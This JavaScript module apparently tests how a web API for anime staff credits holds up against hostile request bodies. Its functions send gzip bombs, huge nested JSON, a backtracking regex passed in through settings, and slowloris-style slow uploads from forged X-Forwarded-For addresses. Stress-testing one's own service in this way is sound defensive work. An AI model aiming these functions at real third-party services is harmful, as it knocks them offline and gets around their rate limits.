/* Attacks through request bodies. Each uses one connection at a time, unless it says otherwise. */
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';

const megabyte = 1024 * 1024;

/** Sends the same request again and again, over `parallel` connections. */
async function repeat(target, { path, body, headers = {}, parallel = 1 }) {
  const statuses = {};
  let bytes = 0;
  const agent = new Agent({ keepAlive: true, maxSockets: parallel });
  const one = async () => {
    // At least once: on a slow machine, time may be up before there is something to send.
    do {
      const status = await post(agent, target, path, body, headers);
      statuses[status] = (statuses[status] ?? 0) + 1;
      bytes += body.length;
      // Requests that are refused at once would only measure how fast connections are opened.
      if (status === 429 || status === 0) await new Promise((done) => setTimeout(done, 20));
    } while (performance.now() < target.until);
  };
  await Promise.all(Array.from({ length: parallel }, one));
  return { statuses, megabytes: Math.round(bytes / megabyte) };
}

/** Status of the answer; 0: the connection was cut. An attacker does not wait forever. */
function post(agent, { url, cookie, address }, path, body, headers) {
  return new Promise((done) => {
    const asking = request(
      new URL(path, url),
      {
        agent,
        method: 'POST',
        timeout: 60_000,
        headers: {
          'content-type': 'application/json',
          'content-length': body.length,
          'x-forwarded-for': address,
          ...(cookie ? { cookie } : {}),
          ...headers,
        },
      },
      (answer) => {
        answer.resume();
        answer.on('close', () => done(answer.statusCode));
      },
    );
    asking.on('timeout', () => asking.destroy());
    asking.on('error', () => done(0));
    asking.end(body);
  });
}

const nested = (length) => Buffer.from('['.repeat(length / 2) + ']'.repeat(length / 2));
const bomb = () => gzipSync(nested(19 * megabyte), { level: 9 });

export const bombToSmallAddress = (target) =>
  repeat(target, { path: '/api/v1/session/end', body: bomb(), headers: { 'content-encoding': 'gzip' } });

export const nestedToParse = (target) =>
  repeat(target, { path: '/api/v1/parse', body: nested(18 * megabyte) });

export const nestedToLookup = (target) =>
  repeat(target, { path: '/api/v1/names/lookup', body: nested(18 * megabyte) });

export const nestedToLogin = (target) =>
  repeat(target, { path: '/api/v1/session/development', body: nested(18 * megabyte) });

export const nestedToNowhere = (target) =>
  repeat(target, { path: '/api/v1/no/such/address', body: nested(18 * megabyte) });

export const sixNestedAtOnce = (target) =>
  repeat(target, { path: '/api/v1/names/lookup', body: nested(18 * megabyte), parallel: 6 });

export const manyObjects = (target) =>
  repeat(target, { path: '/api/v1/check', body: Buffer.from(`[${'{},'.repeat(6_000_000)}{}]`) });

export const manyKeys = (target) => {
  const keys = Array.from({ length: 1_000_000 }, (_, key) => `"${key.toString(36)}":0`);
  return repeat(target, { path: '/api/v1/check', body: Buffer.from(`{${keys.join()}}`) });
};

/** Valid lists, of the maximum size. */
const largeList = (megabytes) => {
  const menus = [];
  let count = 0;
  for (let size = 0; size < megabytes * megabyte;) {
    const staff = Array.from({ length: 200 }, () => {
      count += 1;
      const name = String.fromCodePoint(0x4e00 + (count % 9_000), 0x4e00 + ((count * 7) % 9_000), 0x5b50);
      return { ja: name, en: `Person ${count % 20_000}`, comment: `Cut ${count}, and what was drawn for it` };
    });
    const menu = {
      name: `#${menus.length}`,
      credits: [{ name: 'Key Animation', roles: [{ name: 'Key Animation', original: '原画', staff }] }],
    };
    size += Buffer.byteLength(JSON.stringify(menu)) + 1;
    menus.push(menu);
  }
  return Buffer.from(JSON.stringify({ title: 'Large', menus }));
};

export const largeChecks = (target) => repeat(target, { path: '/api/v1/check', body: largeList(12) });

export const largeImports = (target) => repeat(target, { path: '/api/v1/lists/import', body: largeList(12) });

/** One list with 4,000 unknown people. */
export const oneImport = (target) =>
  repeat({ ...target, until: 0 }, { path: '/api/v1/lists/import', body: largeList(0.7) });

export const brokenNestedImports = (target) =>
  repeat(target, { path: '/api/v1/lists/import', body: Buffer.from('['.repeat(18 * megabyte)) });

/** Credits as printed, 3.6 MB. */
export const largeTexts = (target) => {
  const lines = [];
  for (let size = 0, line = 0; size < 1_150_000; line += 1) {
    const text =
      line % 60 === 0
        ? `第${line / 60 + 1}話「題名」`
        : `原画：${Array.from({ length: 8 }, (_, n) => String.fromCodePoint(0x4e00 + ((line * 31 + n * 7) % 9_000), 0x5b50)).join('、')}`;
    lines.push(text);
    size += text.length + 1;
  }
  return repeat(target, {
    path: '/api/v1/parse',
    body: Buffer.from(JSON.stringify({ text: lines.join('\n') })),
  });
};

const text = (of, settings) => Buffer.from(JSON.stringify({ text: of, settings }));

export const runsOfBars = (target) =>
  repeat(target, { path: '/api/v1/parse', body: text(`原画${'|'.repeat(40_000)}!x`) });

export const slowPattern = (target) =>
  repeat(target, {
    path: '/api/v1/parse',
    body: text(`${'a'.repeat(40)}!\n監督：灯台守渡`, { episodeRegex: '^(a+)+$', staffDelimiters: '(a+)+$' }),
  });

/** Not faster than a line would be: it is about what lingers, and not about how much arrives. */
async function fill(socket, bytes) {
  const piece = Buffer.alloc(bytes / 20, ' ');
  for (let at = 0; at < 20 && !socket.destroyed; at += 1) {
    await new Promise((done) => {
      socket.write(piece, done);
    });
    await new Promise((done) => setTimeout(done, 300));
  }
}

/** Opens connections that send the given bytes of an unfinished body at once, and then a single one now and then. */
async function linger(target, path, { connections, announced, sent, address, cookie }) {
  const { hostname, port } = new URL(target.url);
  const lines = Array.from({ length: connections }, (_, at) => {
    const socket = connect(Number(port), hostname);
    const line = { socket, answer: '', isOpen: true };
    socket.on('data', (part) => (line.answer += part.toString('latin1')));
    socket.on('error', () => undefined);
    socket.on('close', () => (line.isOpen = false));
    socket.write(
      `POST ${path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: application/json\r\n` +
        `X-Forwarded-For: ${address(at)}\r\nContent-Length: ${announced}\r\n` +
        `${cookie ? `Cookie: ${cookie}\r\n` : ''}\r\n`,
    );
    line.sent = new Promise((done) => {
      socket.once('close', done);
      void fill(socket, sent).then(done);
    });
    return line;
  });
  await Promise.all(lines.map(({ sent: whole }) => whole));
  target.begun();
  const until = Math.max(target.until, performance.now() + 2_000);
  while (performance.now() < until) {
    for (const { socket, isOpen } of lines) if (isOpen) socket.write(' ');
    await new Promise((done) => setTimeout(done, 200));
  }
  const answered = lines.map(({ answer }) => answer.slice(9, 12)).filter(Boolean);
  for (const { socket } of lines) socket.destroy();
  return { answered };
}

/** From 60 addresses, as much as the site holds of all bodies; then small ones. */
export const slowSenders = async (target) => {
  const address = (at) => `203.1.113.${at % 60}`;
  const large = { connections: 80, announced: 2 * megabyte, sent: 1.9 * megabyte, address };
  const small = { connections: 320, announced: 99 * 1024, sent: 90 * 1024, address };
  let filling = 2;
  const begun = () => (filling -= 1) || target.begun();
  const all = await Promise.all([
    linger({ ...target, begun }, '/api/v1/check', large),
    linger({ ...target, begun }, '/api/v1/names/lookup', small),
  ]);
  return { answered: all.flatMap(({ answered }) => answered) };
};

/** One member, seven times nearly the largest list. */
export const slowMember = (target) =>
  linger(target, '/api/v1/lists/import', {
    connections: 7,
    announced: 20 * megabyte,
    sent: 19.9 * megabyte,
    address: () => target.address,
    cookie: target.cookie,
  });

export const smallRequests = (target) =>
  repeat(target, { path: '/api/v1/session/end', body: Buffer.from('{}') });
